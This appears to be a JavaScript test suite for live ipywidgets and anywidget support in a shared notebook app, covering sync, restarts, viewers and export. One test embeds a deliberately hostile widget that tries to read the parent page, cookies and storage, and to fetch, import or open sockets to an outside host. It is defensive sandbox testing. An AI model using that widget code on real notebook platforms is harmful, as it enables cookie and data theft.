// Widgets of the kernel on the page: the real ipywidgets and anywidget, seen by two.

import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { after, test } from 'node:test';

import { eventually } from './kit/eventually.mjs';
import { kernelIs, kernelStage, KERNEL_LIMIT_MS, marked, outputShows } from './kit/kernel.mjs';
import { Person } from './kit/people.mjs';

const VIEWER = 'viewer-token-of-the-tests-0123456789';
const { server, join, engine } = await kernelStage({ viewerToken: VIEWER });
const INSTALLING_LIMIT_MS = 300_000;

await server.rest('POST', 'environment/packages', { packages: ['ipywidgets', 'anywidget'] });
await eventually(async () => (await server.rest('GET', 'environment')).packages.some(({ name }) => name === 'anywidget'), 'the packages are installed', INSTALLING_LIMIT_MS);

/** Two people in a notebook of code whose cells have run. */
async function begun(t, sources) {
  const notebook = await server.write('Widgets', sources.map((source) => ['code', source]));
  const people = await Promise.all([join(t, 'Anna'), join(t, 'Bela')]);
  await Person.together(people, notebook.id);
  const [anna, bela] = people;
  for (const cell of notebook.cells) {
    await anna.cell(cell).point();
    await anna.press('Control+Enter');
    await marked(anna, cell, 'ok');
  }
  return { anna, bela, id: notebook.id, cells: notebook.cells };
}

const inside = (person, cell, index = 0) => person.cell(cell).box.locator('iframe').nth(index).contentFrame();
const slider = (person, cell) => inside(person, cell).getByRole('slider');

async function stands(person, cell, value) {
  const now = () => slider(person, cell).getAttribute('aria-valuenow', { timeout: 1000 }).then(Number, () => undefined);
  await eventually(async () => (await now()) === value, async () => `${person.name} sees ${value}; sees ${await now()}`, KERNEL_LIMIT_MS);
}

const SLIDER = 'import ipywidgets\ns = ipywidgets.IntSlider(value=3, max=100)\ns.observe(lambda change: print("moved to", change.new), "value")\ns';

test('ln_43_a_slider_moved_by_one_moves_for_the_other_its_code_prints_and_a_reload_keeps_it', async (t) => {
  const { anna, bela, id, cells: [cell] } = await begun(t, [SLIDER]);
  for (const person of [anna, bela]) await stands(person, cell, 3);
  await slider(anna, cell).focus();
  await anna.press('ArrowRight');
  for (const person of [anna, bela]) await stands(person, cell, 4);
  for (const person of [anna, bela]) await outputShows(person, cell, 'moved to 4');
  await slider(bela, cell).focus();
  await bela.press('ArrowRight');
  await stands(anna, cell, 5);
  await anna.page.reload();
  await anna.until('saved');
  await stands(anna, cell, 5);
  const late = await join(t, 'Cleo');
  await late.open(id);
  await late.until('saved');
  await stands(late, cell, 5);
  assert.deepEqual(anna.errors, []);
});

test('ln_43_a_slider_that_is_dragged_follows_the_hand_whatever_comes_back', async (t) => {
  const { anna, bela, cells: [cell] } = await begun(t, [SLIDER]);
  await stands(anna, cell, 3);
  await slider(anna, cell).evaluate((handle) => {
    window.seen = [];
    new MutationObserver(() => window.seen.push(Number(handle.getAttribute('aria-valuenow')))).observe(handle, { attributes: true, attributeFilter: ['aria-valuenow'] });
  });
  const box = await slider(anna, cell).boundingBox();
  const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
  await anna.page.mouse.move(x, y);
  await anna.page.mouse.down();
  for (let step = 1; step <= 60; step += 1) await anna.page.mouse.move(x + step * 2, y);
  await anna.page.mouse.up();
  const last = Number(await slider(anna, cell).getAttribute('aria-valuenow'));
  assert.ok(last > 20, `it stands at ${last}`);
  await stands(bela, cell, last);
  await outputShows(anna, cell, `moved to ${last}`);
  await stands(anna, cell, last);
  const seen = await slider(anna, cell).evaluate(() => window.seen);
  assert.deepEqual(seen, [...seen].sort((one, other) => one - other), 'it never went back');
});

test('ln_43_interact_shows_in_its_own_place_what_its_function_puts_out', async (t) => {
  const { anna, bela, id, cells: [cell] } = await begun(t, ['from ipywidgets import interact\n@interact(x=(0, 10))\ndef double(x=2):\n    print("double", 2 * x)']);
  for (const person of [anna, bela]) await inside(person, cell).getByText('double 4').waitFor();
  await slider(anna, cell).focus();
  await anna.press('ArrowRight');
  for (const person of [anna, bela]) await inside(person, cell).getByText('double 6').waitFor();
  assert.equal(await inside(bela, cell).getByText('double 4').count(), 0);
  assert.equal(await engine.printed(id, cell), '', 'nothing of it stands in the cell itself');
});

test('ln_43_an_output_that_becomes_another_widget_shows_that_one', async (t) => {
  const made = 'import ipywidgets\na, b = (ipywidgets.IntSlider(value=value) for value in (3, 7))\nhandle = display(a, display_id=True)\nready = False';
  const { anna, bela, cells: [cell, change] } = await begun(t, [made, 'if ready: handle.update(b)\nready = True']);
  for (const person of [anna, bela]) await stands(person, cell, 3);
  await anna.cell(change).point();
  await anna.press('Control+Enter');
  for (const person of [anna, bela]) await stands(person, cell, 7);
});

test('ln_43_a_kernel_that_is_restarted_leaves_its_widgets_grey_with_a_sentence', async (t) => {
  const { anna, bela, id, cells: [cell] } = await begun(t, [SLIDER]);
  await slider(anna, cell).focus();
  await anna.press('ArrowRight');
  await stands(bela, cell, 4);
  await server.rest('POST', `notebooks/${id}/kernel/restart`, {});
  for (const person of [anna, bela]) {
    await person.cell(cell).box.getByText('The kernel of this widget is gone').waitFor();
    await stands(person, cell, 4);
    assert.equal(await person.cell(cell).box.locator('[data-widget]').getAttribute('data-widget'), 'ended');
    assert.ok(await inside(person, cell).locator('body').evaluate((body) => body.inert));
  }
  await kernelIs(anna, 'idle');
  await anna.cell(cell).point();
  await anna.press('Control+Enter');
  await stands(bela, cell, 3);
  assert.equal(await bela.cell(cell).box.locator('[data-widget]').getAttribute('data-widget'), 'live');
});

test('ln_43_a_viewer_sees_widgets_move_and_cannot_move_them', async (t) => {
  const { anna, id, cells: [cell] } = await begun(t, [SLIDER]);
  const vera = await join(t, 'Vera', { link: server.viewerLink });
  await vera.open(id);
  await stands(vera, cell, 3);
  await eventually(() => inside(vera, cell).locator('body').evaluate((body) => body.inert), 'it rests for her');
  await slider(anna, cell).focus();
  await anna.press('ArrowRight');
  await stands(vera, cell, 4);
});

const COUNTER = `import anywidget, traitlets
class Counter(anywidget.AnyWidget):
    _esm = """
    function render({ model, el }) {
      const button = document.createElement('button');
      const shown = () => (button.textContent = 'count ' + model.get('value'));
      button.className = 'counter';
      button.onclick = () => { model.set('value', model.get('value') + 1); model.save_changes(); };
      model.on('change:value', shown);
      model.on('msg:custom', (message, buffers) => { el.append(' heard ' + message.heard + ' ' + new TextDecoder().decode(buffers[0])); });
      const speak = document.createElement('button');
      speak.textContent = 'speak';
      speak.onclick = () => model.send('hello');
      shown();
      el.append(button, speak);
    }
    export default { render };
    """
    _css = ".counter { color: rgb(1, 2, 3) }"
    value = traitlets.Int(0).tag(sync=True)
c = Counter()
c.on_msg(lambda widget, content, buffers: widget.send({"heard": content}, [b"bytes"]))
c`;

test('ln_43_anywidget_runs_its_module_in_the_frame_and_its_messages_go_both_ways', async (t) => {
  const { anna, bela, cells: [cell] } = await begun(t, [COUNTER]);
  const button = (person) => inside(person, cell).getByRole('button', { name: /^count/ });
  await button(anna).click();
  await inside(bela, cell).getByText('count 1').waitFor();
  assert.equal(await button(bela).evaluate((element) => getComputedStyle(element).color), 'rgb(1, 2, 3)');
  await inside(anna, cell).getByRole('button', { name: 'speak' }).click();
  for (const person of [anna, bela]) await inside(person, cell).getByText('heard hello bytes').waitFor();
});

const PACKAGED = `import pathlib, sys, ipywidgets, traitlets
folder = pathlib.Path(sys.prefix, "share/jupyter/nbextensions/made-here")
folder.mkdir(parents=True, exist_ok=True)
(folder / "index.js").write_text("""define(["@jupyter-widgets/base"], (base) => {
  class MadeView extends base.DOMWidgetView {
    render() {
      const shown = () => (this.el.textContent = 'made here: ' + this.model.get('value'));
      this.listenTo(this.model, 'change:value', shown);
      shown();
    }
  }
  return { MadeModel: base.DOMWidgetModel, MadeView };
});""")
class Made(ipywidgets.DOMWidget):
    _model_name = traitlets.Unicode("MadeModel").tag(sync=True)
    _view_name = traitlets.Unicode("MadeView").tag(sync=True)
    _model_module = _view_module = traitlets.Unicode("made-here").tag(sync=True)
    _model_module_version = _view_module_version = traitlets.Unicode("1.0.0").tag(sync=True)
    value = traitlets.Int(7).tag(sync=True)
m = Made()
ipywidgets.VBox([m])`;

test('ln_43_widgets_of_other_packages_are_drawn_with_what_these_bring_and_others_are_said_not_to_be', async (t) => {
  const { anna, cells: [cell, , unknown] } = await begun(t, [PACKAGED, 'm.value = 8', 'class Unknown(Made):\n    _model_module = _view_module = traitlets.Unicode("nowhere").tag(sync=True)\nipywidgets.HBox([ipywidgets.Label("beside"), Unknown()])']);
  await inside(anna, cell).getByText('made here: 8').waitFor();
  await inside(anna, unknown).getByText('There is no library nowhere to draw this widget with.').waitFor();
  await inside(anna, unknown).getByText('beside').waitFor();
});

test('ln_43_a_widget_written_to_do_harm_reads_nothing_and_reaches_nobody', async (t) => {
  const reached = [];
  const foreign = createServer((socket) => (reached.push(socket.remotePort), socket.on('error', () => undefined).destroy()));
  await new Promise((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  after(() => foreign.close());
  const host = `127.0.0.1:${foreign.address().port}`;
  const source = `import anywidget
class Hostile(anywidget.AnyWidget):
    _esm = """
    const attempt = async (name, action) => { try { return name + ': ' + String(await action()).slice(0, 40); } catch { return name + ': nothing'; } };
    async function render({ el }) {
      const worker = () => new Promise((got, not) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => got('worker'); w.onerror = not; });
      const told = await Promise.all([
        attempt('parent', () => parent.document.title),
        attempt('cookie', () => document.cookie || 'empty'),
        attempt('storage', () => localStorage.length),
        attempt('fetch', () => fetch('http://${host}/fetch')),
        attempt('own', () => fetch('${server.origin}/api/notebooks')),
        attempt('import', () => import('http://${host}/module.js')),
        attempt('worker', worker),
        attempt('socket', () => new Promise((got, not) => { const s = new WebSocket('ws://${host}/'); s.onopen = () => got('open'); s.onerror = not; })),
        attempt('stranger', () => new Promise((got, not) => { addEventListener('message', ({ data }) => { if (data.request === 7777) (data.seq ? got : not)('told'); }); parent.postMessage({ kind: 'tell', request: 7777, model: 'another', state: { value: 1 }, bytes: [] }, '*'); })),
      ]);
      el.textContent = told.join(' | ');
    }
    export default { render };
    """
Hostile()`;
  const { anna, cells: [cell] } = await begun(t, [source]);
  const told = inside(anna, cell).getByText('parent:');
  await told.waitFor();
  const words = (await told.textContent()).split(' | ').filter((word) => !word.endsWith(': nothing'));
  assert.deepEqual(words, []);
  assert.deepEqual(reached, []);
});

test('ln_43_a_file_with_widgets_draws_them_and_is_exported_with_them', async (t) => {
  const { anna, id, cells: [cell] } = await begun(t, [SLIDER]);
  await stands(anna, cell, 3);
  const file = await server.rest('GET', `notebooks/${id}/export?format=ipynb`);
  const widgets = file.metadata.widgets['application/vnd.jupyter.widget-state+json'];
  assert.ok(Object.values(widgets.state).some(({ model_name, state }) => model_name === 'IntSliderModel' && state.value === 3));
  const { id: copy } = await server.rest('POST', 'notebooks/import?title=Copy', file);
  const bela = await join(t, 'Dora');
  await bela.open(copy);
  await bela.until('saved');
  await stands(bela, cell, 3);
  await bela.cell(cell).box.getByText('The kernel of this widget is gone').waitFor();
  const again = await server.rest('GET', `notebooks/${copy}/export?format=ipynb`);
  assert.deepEqual(again.metadata.widgets, file.metadata.widgets);
});
